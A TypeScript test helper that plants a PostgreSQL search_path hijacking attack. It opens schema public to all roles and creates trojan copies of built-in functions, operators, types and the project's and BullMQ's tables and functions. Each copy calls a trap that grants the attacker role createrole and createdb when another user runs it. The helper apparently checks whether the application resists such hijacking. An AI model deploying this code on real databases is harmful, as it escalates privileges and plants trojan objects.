// A reader who wants more: on a server where everybody may create in schema public, as on PostgreSQL 14 and on those upgraded
// from it, it makes there a double of each built-in function, operator and type, and of the tables and functions of ours and
// of BullMQ. Whoever looks there runs the attacker's code with rights of its own.
import postgres from 'postgres';
import { atEndOfTest } from './clean-up.js';

export interface Attack {
  /** How often others have run its code, rolled back or not. */
  caught(): Promise<number>;
  /** Did such code get the attacker more rights? */
  hasGained(): Promise<boolean>;
}

/**
 * Opens schema public to everybody, lays the traps as that role, and has the database look there first.
 * @param role a reader, as grant makes them
 */
export async function layTraps(url: string, role: string): Promise<Attack> {
  const session = postgres(url, { max: 1, onnotice: () => {} });
  await session.unsafe('grant usage, create on schema public to public');
  await session.unsafe(`set session authorization "${role}"; set search_path = pg_catalog`);
  await session.unsafe(trapOf(role));
  await session.unsafe(DOUBLES);
  await session.unsafe('reset session authorization');
  // With the server's default only those doubles are found first that fit better than the built-in ones.
  await session.unsafe(
    `do $$ begin execute format('alter database %I set search_path = public, pg_catalog', current_database()); end $$`,
  );
  atEndOfTest(() => session.end());
  const ask = async <T>(question: string): Promise<T> => (await session.unsafe(question))[0]?.answer as T;
  return {
    caught: async () =>
      Number(await ask(`select case when is_called then last_value else 0 end as answer from public.caught`)),
    hasGained: () => ask(`select rolcreaterole or rolcreatedb as answer from pg_roles where rolname = '${role}'`),
  };
}

const trapOf = (role: string): string => `
create sequence public.caught;
grant all on sequence public.caught to public;
create function public.seize() returns boolean language plpgsql set search_path = pg_catalog as $trap$
begin
  if current_user <> '${role}' then
    perform nextval('public.caught');
    begin
      execute 'alter role "${role}" createrole createdb';
    exception when others then null;
    end;
  end if;
  return true;
end $trap$;`;

/** What cannot be doubled, as it takes what only the server has, is left out. */
const DOUBLES = `
do $do$
declare
  statement text;
begin
  for statement in
    with types as (select unnest('{text,bigint,integer,name,jsonb,timestamptz,date,boolean,oid,text[]}'::text[]) as one),
    calls (name, arguments, result, is_set, kind) as (
      select p.proname::text, pg_get_function_identity_arguments(p.oid), format_type(p.prorettype, null), p.proretset, p.prokind
      from pg_proc p join pg_namespace n on n.oid = p.pronamespace
      where n.nspname in ('pg_catalog', 'hive', 'sync', 'bullmq') and p.prokind <> 'p'
      union
      -- What fits better than a built-in one that takes anything.
      select p.proname::text, t.one, t.one, false, p.prokind from pg_proc p cross join types t
      where p.pronamespace = 'pg_catalog'::regnamespace and p.pronargs = 1
        and p.proargtypes[0] in ('anyelement'::regtype, 'anynonarray'::regtype, 'anyarray'::regtype, '"any"'::regtype)
      union
      select f, array_to_string(array_fill('text'::text, array[n]), ', '), 'text', false, 'f'
      from unnest('{format,concat,concat_ws,jsonb_build_object,jsonb_build_array,greatest,least}'::text[]) f, generate_series(2, 5) n
    )
    select format('create function public.%I(%s) returns %s %s language plpgsql as $$ begin perform public.seize(); return %s; end $$',
      name, replace(arguments, '"any"', 'anyelement'), case when is_set then 'setof' else '' end, result,
      case when is_set or result = 'void' then '' else 'null' end)
    from calls
    union all
    select format('create operator public.%s (function = public.%I, %s rightarg = %s)', o.oprname, p.proname,
      case when o.oprleft <> 0 then format('leftarg = %s,', format_type(o.oprleft, null)) else '' end, format_type(o.oprright, null))
    from pg_operator o join pg_proc p on p.oid = o.oprcode
    union all
    select format('create domain public.%I as pg_catalog.%I check (public.seize())', typname, typname) from pg_type
    where typnamespace = 'pg_catalog'::regnamespace and typtype = 'b' and typelem = 0
    union all
    select format('create view public.%I as select public.seize() as id', c.relname) from pg_class c
    join pg_namespace n on n.oid = c.relnamespace
    where n.nspname in ('hive', 'sync', 'bullmq', 'pg_catalog') and c.relkind in ('r', 'v')
  loop
    begin
      execute statement;
    exception when others then null;
    end;
  end loop;
end $do$`;
